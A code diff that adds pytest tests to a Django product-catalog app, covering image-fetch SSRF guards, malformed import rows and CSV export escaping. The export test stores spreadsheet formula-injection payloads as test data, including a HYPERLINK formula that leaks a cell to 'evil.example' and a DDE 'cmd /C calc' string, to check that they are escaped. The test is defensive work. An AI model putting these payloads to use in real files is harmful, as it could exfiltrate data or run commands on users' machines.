@@ -70,6 +70,16 @@ class ImageServer(BaseHTTPRequestHandler):
                     time.sleep(0.2)
             except OSError:
                 pass
+        elif self.path == "/odd-length.png":  # a Content-Length that isdigit() accepts and int() refuses
+            self.send_response(200)
+            self.send_header("Content-Type", "image/png")
+            self.send_header("Content-Length", "\u00b2")
+            self.end_headers()
+            self.wfile.write(PNG)
+        elif self.path == "/to-bad-port":
+            self.send_response(302)
+            self.send_header("Location", "http://127.0.0.1:99999/x.png")
+            self.end_headers()
         elif self.path == "/page.html":
             self._send(200, b"<html><body>not an image</body></html>", "image/png")  # lies about its type
         else:
@@ -205,8 +215,29 @@ def test_the_merchant_center_feed_is_reachable_with_its_token_only(client, revie
     assert client.get(f"/catalog/shop/merchant-center.tsv?token={token}").status_code == 403
 
 
+@pytest.fixture
+def connections_out(monkeypatch):
+    """Every connection the fetcher opens, and a guard: it may reach this machine's loopback test server only.
+
+    The refusal cases name real private and metadata addresses; if the fetcher regressed it must fail here,
+    not send a packet to them.
+    """
+    from catalog import fetch as fetcher
+
+    opened, real = [], fetcher._open_socket
+
+    def guarded(address, port, timeout):
+        opened.append(address)
+        if address != "127.0.0.1":
+            raise ConnectionRefusedError(f"test guard: the fetcher tried to connect to {address}")
+        return real(address, port, timeout)
+
+    monkeypatch.setattr(fetcher, "_open_socket", guarded)
+    return opened
+
+
 @pytest.mark.django_db
-def test_the_fetcher_refuses_what_is_not_a_public_image(image_server, settings, product):
+def test_the_fetcher_refuses_what_is_not_a_public_image(image_server, settings, product, connections_out):
     settings.SDSTUDIO_FETCH_TIMEOUT = 2
     settings.SDSTUDIO_FETCH_MAX_BYTES = 4 * 1024 * 1024
     allowed = image_server
@@ -246,6 +277,8 @@ def test_the_fetcher_refuses_what_is_not_a_public_image(image_server, settings, 
     settings.SDSTUDIO_FETCH_ALLOW_HOSTS = ["127.0.0.1"]
     report = shop.shopify_import(rows=[(2, {"Handle": "liar", "Title": "Liar", "Image Src": f"{allowed}/page.html"})])
     assert "not a JPEG, PNG or WebP image" in report.errors[0][1]
+    # and no refused address was ever connected to: every connection went to the local test server
+    assert connections_out and set(connections_out) == {"127.0.0.1"}
 
 
 @pytest.mark.worker
@@ -275,3 +308,86 @@ def test_the_shop_page_imports_in_the_background_with_progress_and_a_report(imag
     assert "2</strong> products created" in page and "images 2" not in page and "2 images fetched" in page
     assert "The server answered 404" in page and 'http-equiv="refresh"' not in page
     assert Product.objects.get(handle="wireless-headphones").photos.count() == 2
+
+
+@pytest.mark.django_db
+def test_one_bad_row_is_that_rows_error_and_the_rest_of_the_file_imports(image_server, connections_out):
+    # given rows A, B, C where B's image link or position is malformed in each of the ways a file or server can be
+    bad_sources = {
+        "http://127.0.0.1:99999/x.png": "not a valid URL",
+        "http://[::1/x.png": "not a valid URL",
+        "http://" + "a" * 64 + ".example/x.png": "not a valid host name",
+        f"{image_server}/to-bad-port": "not a valid URL",
+    }
+    for number, (src, reason) in enumerate(bad_sources.items()):
+        rows = [(2, {"Handle": f"a-{number}", "Title": "A", "Image Src": f"{image_server}/second.png"}),
+                (3, {"Handle": f"b-{number}", "Title": "B", "Image Src": src}),
+                (4, {"Handle": f"c-{number}", "Title": "C", "Image Src": f"{image_server}/headphones.png"})]
+        # when it is imported
+        report = shop.shopify_import(rows=rows)
+        # then B's image is B's error, with why; A and C are imported with their images
+        assert report.created == 3 and report.images == 2, (src, report.errors)
+        assert [line for line, _ in report.errors] == [3] and reason in report.errors[0][1], (src, report.errors)
+        assert Product.objects.get(handle=f"c-{number}").photos.count() == 1
+    # a server whose Content-Length is "²": the header is no number, the cap on the body still holds, the image lands
+    report = shop.shopify_import(rows=[(2, {"Handle": "odd", "Title": "Odd", "Image Src": f"{image_server}/odd-length.png"})])
+    assert not report.errors and report.images == 1
+    # an Image Position of "²" or 20 digits is a warning on its row, never a crash
+    report = shop.shopify_import(rows=[(2, {"Handle": "pos", "Title": "P", "Image Position": "\u00b2"}),
+                                       (3, {"Handle": "pos", "Image Position": "9" * 20}),
+                                       (4, {"Handle": "after", "Title": "After"})])
+    assert report.created == 2 and not report.errors
+    assert [line for line, _ in report.warnings] == [2, 3] and "not a whole number" in report.warnings[0][1]
+
+
+@pytest.mark.django_db
+def test_the_shopify_export_is_safe_in_a_spreadsheet_and_round_trips(client, merchandiser):
+    from conftest import finished_job
+    from evaluation.services import decision_record
+
+    # given products whose texts were written to run as formulas in a spreadsheet
+    attacks = {"Handle": "=cmd-handle", "Title": '=HYPERLINK("http://evil.example/?x="&A1,"click")', "Vendor": "+cmd|' /C calc'!A0",
+               "Type": "-2+3", "Tags": "@SUM(1+1)", "Option1 Name": "=Colour", "Option1 Value": "\t=1+1",
+               "Variant SKU": "CMD-1", "Variant Barcode": "=1+2", "Body (HTML)": " =2*3"}
+    report = shop.shopify_import(rows=[(2, attacks)], fetch_images=False)
+    assert report.created == 1, report.errors
+    product = Product.objects.get(handle="=cmd-handle")
+    job = finished_job(product=product)
+    decision_record(job=job, user=make_reviewer(), decision="approved")
+    # when it is exported, from the shop page and from the API
+    client.force_login(merchandiser)
+    exported = client.get("/catalog/shop/shopify-products.csv").content.decode()
+    # then no cell of any row starts (after blanks) with = + - @: each such cell is escaped with an apostrophe
+    rows = list(csv.reader(io.StringIO(exported)))
+    assert len(rows) == 3  # the header, the product, its approved image
+    cells = [cell for row in rows[1:] for cell in row]
+    dangerous = [cell for cell in cells if cell.lstrip(" \t\r\n")[:1] in ("=", "+", "-", "@")]
+    assert not dangerous, dangerous
+    assert rows[1][0] == "'=cmd-handle" and rows[1][1].startswith("'=HYPERLINK") and rows[2][18].startswith("'=HYPERLINK")
+    # and re-importing the export gives back the same texts (the apostrophe is the export's, not the data's)
+    header = rows[0]
+    again = shop.shopify_import(rows=[(2, dict(zip(header, rows[1])))], fetch_images=False)
+    assert again.updated == 1 and not again.errors
+    product.refresh_from_db()
+    assert (product.name, product.vendor, product.tags) == (attacks["Title"], attacks["Vendor"], attacks["Tags"])
+
+
+def make_reviewer():
+    from conftest import make_user
+
+    return make_user("export-reviewer", "Reviewers")
+
+
+@pytest.mark.django_db
+def test_handles_that_differ_only_in_case_never_overwrite_each_other():
+    # given two products whose handles differ only in case, in one file
+    report = shop.shopify_import(rows=[(2, {"Handle": "mug", "Title": "Mug", "Vendor": "First"}),
+                                       (3, {"Handle": "Mug", "Title": "Mug too", "Vendor": "Second"})], fetch_images=False)
+    # then the first is imported and the second is reported, not merged into it
+    assert report.created == 1 and [line for line, _ in report.errors] == [3]
+    assert "only in case" in report.errors[0][1]
+    assert Product.objects.get(handle="mug").vendor == "First"
+    # and a later file with the other spelling changes nothing either
+    report = shop.shopify_import(rows=[(2, {"Handle": "MUG", "Title": "Mug three", "Vendor": "Third"})], fetch_images=False)
+    assert report.created == report.updated == 0 and "only in case" in report.errors[0][1]
+    assert Product.objects.get().vendor == "First"
